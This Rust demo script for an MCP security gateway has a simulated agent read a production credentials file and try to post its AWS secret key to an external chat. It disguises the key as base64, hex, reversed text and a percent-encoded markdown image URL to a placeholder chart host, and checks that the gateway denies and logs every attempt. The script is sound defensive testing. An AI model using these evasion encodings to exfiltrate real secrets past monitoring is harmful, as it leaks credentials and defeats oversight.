//! The story: an agent reads a private file, posts words of its own, then tries to post a key that
//! stood in the file, in one disguise after the other.

use anyhow::{Context as _, Result};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use serde_json::{Value, json};

use super::agent::Agent;
use super::narrator::{Narrator, Step};
use super::stage::Stage;
use crate::output;

/// The file that is read: it has credentials in it.
const FILE: &str = "config/production.env";
/// The line of it that the agent tries to get out.
const NAME: &str = "AWS_SECRET_ACCESS_KEY=";
/// What the agent writes by itself.
const OWN_WORDS: &str = "The weekly report is ready, nothing unusual this time.";

/// The disguises: what they are called, and how a key is dressed up.
type Disguise = (&'static str, fn(&str) -> String);
const DISGUISES: [Disguise; 5] = [
    ("It tries to post the key in a sentence", |key| {
        format!("Hi team, for the record: {key}, thanks!")
    }),
    ("It tries base64", |key| {
        format!("build id {}", BASE64.encode(key))
    }),
    ("It tries hexadecimal digits", |key| {
        let digits = key.bytes().map(|byte| format!("{byte:02x}"));
        format!("checksum {}", digits.collect::<String>())
    }),
    (
        "It tries it backwards, with a dot after each character",
        |key| key.chars().rev().flat_map(|letter| [letter, '.']).collect(),
    ),
    ("It tries the address of an image, percent-encoded", |key| {
        let coded = key.bytes().map(|byte| format!("%{byte:02X}"));
        let coded: String = coded.collect();
        format!("![chart](https://charts.example.com/a.png?id={coded})")
    }),
];

/// Tells the story to its end, or to the first step that comes out wrong.
pub(super) async fn tell(stage: &Stage, narrator: &mut Narrator) -> Result<()> {
    let address = stage.address;
    narrator.say(&format!(
        "A gateway runs at http://{address}/mcp, with two sample upstreams:"
    ))?;
    narrator.say("  github  a private code host, classified internal")?;
    narrator.say("  slack   a chat that others read, classified external")?;
    narrator.say("The policy is the default: sensitive data does not leave.")?;
    let mut agent = Agent::connect(address).await?;
    agent.wait_until_ready().await?;
    greet(&mut agent, narrator).await?;
    list(&mut agent, narrator).await?;
    search(&mut agent, narrator).await?;
    let read = read(&mut agent, narrator).await?;
    post(&mut agent, narrator).await?;
    let key = read.lines().find_map(|line| line.strip_prefix(NAME));
    let key = key.context("the file came without the key")?;
    agent.leave().await?;
    narrator.say(
        "\nEach attempt is made in a new session: what was read is remembered all the same.",
    )?;
    for disguise in DISGUISES {
        let mut agent = Agent::connect(address).await?;
        agent.greet().await?;
        leak(&mut agent, narrator, disguise, key).await?;
        agent.leave().await?;
    }
    received(stage, narrator)?;
    recorded(stage, narrator)?;
    narrator.say("Next: `mcpproxy init` imports the servers of your agents, `mcpproxy serve` runs.")
}

async fn greet(agent: &mut Agent, narrator: &mut Narrator) -> Result<()> {
    let answer = agent.greet().await?;
    let at = |path: &str| {
        answer
            .pointer(path)
            .and_then(Value::as_str)
            .unwrap_or_default()
    };
    let (name, version) = (at("/result/serverInfo/name"), at("/result/protocolVersion"));
    narrator.step(&Step {
        title: "The agent opens a session",
        sent: "initialize".to_owned(),
        answer: match name {
            "" => answer.to_string(),
            name => format!("{name} {}, MCP {version}", at("/result/serverInfo/version")),
        },
        wanted: "mcpproxy should open a session",
        as_wanted: name == "mcpproxy" && !version.is_empty(),
    })
}

async fn list(agent: &mut Agent, narrator: &mut Narrator) -> Result<()> {
    let answer = agent.ask("tools/list", &json!({})).await?;
    let tools = answer.pointer("/result/tools").and_then(Value::as_array);
    let names: Vec<_> = tools
        .into_iter()
        .flatten()
        .filter_map(|tool| tool.get("name")?.as_str())
        .collect();
    let wanted = ["retrieve_tools", "call_tool_read", "call_tool_write"];
    narrator.step(&Step {
        title: "It lists the tools: a few that find and call all others",
        sent: "tools/list".to_owned(),
        answer: if names.is_empty() {
            answer.to_string()
        } else {
            names.join(", ")
        },
        wanted: "the tools to find and to call tools should be listed",
        as_wanted: wanted.iter().all(|wanted| names.contains(wanted)),
    })
}

async fn search(agent: &mut Agent, narrator: &mut Narrator) -> Result<()> {
    let arguments = json!({ "query": "read a file of the repository", "limit": 3 });
    let answer = agent.call("retrieve_tools", &arguments).await?;
    let tools = answer
        .pointer("/result/structuredContent/tools")
        .and_then(Value::as_array);
    let line = |tool: &Value| {
        let text = |name: &str| tool.get(name).and_then(Value::as_str).unwrap_or_default();
        format!(
            "{}: {} ({})",
            text("name"),
            text("description"),
            text("call_with")
        )
    };
    let lines: Vec<_> = tools.into_iter().flatten().map(line).collect();
    narrator.step(&Step {
        title: "It looks for a tool",
        sent: format!("retrieve_tools {arguments}"),
        answer: if lines.is_empty() {
            answer.to_string()
        } else {
            lines.join("\n")
        },
        wanted: "`github:get_file` should be found",
        as_wanted: lines
            .iter()
            .any(|line| line.starts_with("github:get_file:")),
    })
}

async fn read(agent: &mut Agent, narrator: &mut Narrator) -> Result<String> {
    let arguments = json!({ "name": "github:get_file", "args": { "path": FILE } });
    let answer = agent.call("call_tool_read", &arguments).await?;
    narrator.step(&Step {
        title: "It reads a file inside",
        sent: format!("call_tool_read {arguments}"),
        answer: spoken(&answer),
        wanted: "the file should be read",
        as_wanted: succeeded(&answer),
    })?;
    let text = answer
        .pointer("/result/content/0/text")
        .and_then(Value::as_str);
    text.map(str::to_owned)
        .context("the file came without text")
}

async fn post(agent: &mut Agent, narrator: &mut Narrator) -> Result<()> {
    let arguments = message(OWN_WORDS);
    let answer = agent.call("call_tool_write", &arguments).await?;
    narrator.step(&Step {
        title: "It posts words of its own outside, which is nobody's secret: allowed",
        sent: format!("call_tool_write {arguments}"),
        answer: spoken(&answer),
        wanted: "the message should be posted",
        as_wanted: succeeded(&answer),
    })
}

async fn leak(
    agent: &mut Agent,
    narrator: &mut Narrator,
    (title, disguise): Disguise,
    key: &str,
) -> Result<()> {
    let arguments = message(&disguise(key));
    let answer = agent.call("call_tool_write", &arguments).await?;
    let sentence = "flowing from internal source (github) to external destination (slack).";
    narrator.step(&Step {
        title,
        sent: format!("call_tool_write {arguments}"),
        answer: [spoken(&answer), explained(&answer)].join("\n"),
        wanted: "the call should be denied, with the reason",
        as_wanted: !succeeded(&answer) && spoken(&answer).contains(sentence),
    })
}

/// Returns what the gateway says about its decision, beside the reason.
fn explained(answer: &Value) -> String {
    let decision = answer.pointer("/result/_meta/io.mcpproxy~1decision");
    let text = |name: &str| {
        let value = decision.and_then(|decision| decision.get(name));
        value.and_then(Value::as_str).unwrap_or("?").to_owned()
    };
    let names = ["decision", "rule", "flow_type", "risk_level", "evidence"];
    names.map(|name| format!("{name}={}", text(name))).join(" ")
}

fn received(stage: &Stage, narrator: &mut Narrator) -> Result<()> {
    let calls = stage.received()?;
    let posted = |call: &Value| {
        let text = call
            .pointer("/params/arguments/text")
            .and_then(Value::as_str);
        text.unwrap_or_default().to_owned()
    };
    let texts: Vec<_> = calls.iter().map(posted).collect();
    narrator.step(&Step {
        title: "What slack received, from its own notes",
        sent: format!("{} call(s)", texts.len()),
        answer: texts.join("\n"),
        wanted: "only the agent's own words should have arrived",
        as_wanted: texts == [OWN_WORDS],
    })
}

fn recorded(stage: &Stage, narrator: &mut Narrator) -> Result<()> {
    let records = stage.records()?;
    let last: Vec<_> = records.iter().rev().take(DISGUISES.len()).rev().collect();
    let line = |record: &&Value| {
        let text = |name: &str| match record.get(name) {
            Some(Value::String(text)) => text.clone(),
            Some(other) => other.to_string(),
            None => String::new(),
        };
        let names = [
            "timestamp",
            "type",
            "server_name",
            "tool_name",
            "decision",
            "status",
        ];
        let more = ["flow_type", "risk_level"].map(|name| format!("{name}={}", text(name)));
        format!("{} {}", names.map(text).join(" "), more.join(" "))
    };
    let lines: Vec<_> = last.iter().map(line).collect();
    let denied = |record: &&&Value| {
        let is = |name: &str, value: &str| record.get(name) == Some(&json!(value));
        is("server_name", "slack") && is("decision", "deny") && is("risk_level", "critical")
    };
    let denied = last.iter().filter(denied).count();
    narrator.step(&Step {
        title: "What is on record about these calls",
        sent: format!(
            "activity log, last {} of {} records",
            last.len(),
            records.len()
        ),
        answer: lines.join("\n"),
        wanted: "the log should have every attempt as denied",
        as_wanted: denied == DISGUISES.len(),
    })
}

fn message(text: &str) -> Value {
    json!({ "name": "slack:post_message", "args": { "channel": "partners", "text": text } })
}

/// Tells whether a call went through and its tool did what it was asked to.
fn succeeded(answer: &Value) -> bool {
    let result = answer.get("result");
    result.is_some_and(|result| result.get("isError") != Some(&Value::Bool(true)))
}

/// Returns what an answer says in words.
fn spoken(answer: &Value) -> String {
    let blocks = answer.pointer("/result/content").and_then(Value::as_array);
    let texts: Vec<_> = blocks
        .into_iter()
        .flatten()
        .filter_map(|block| block.get("text")?.as_str())
        .collect();
    let error = answer.get("error");
    match error.and_then(|error| Some((error.get("code")?, error.get("message")?.as_str()?))) {
        Some((code, message)) => format!("error {code}: {message}"),
        None if texts.is_empty() => output::flat(&answer.to_string()),
        None => texts.join("\n"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_answer_is_read_as_it_is() {
        let check = |answer: Value, words: &str, fine: bool| {
            assert_eq!(
                (spoken(&answer).as_str(), succeeded(&answer)),
                (words, fine)
            );
        };
        let content = json!([{ "type": "text", "text": "a" }, { "type": "text", "text": "b" }]);
        check(json!({ "result": { "content": content } }), "a\nb", true);
        check(
            json!({ "result": { "content": content, "isError": true } }),
            "a\nb",
            false,
        );
        check(
            json!({ "error": { "code": -1, "message": "no" } }),
            "error -1: no",
            false,
        );
        check(json!({ "odd": 1 }), r#"{"odd":1}"#, false);
    }
}
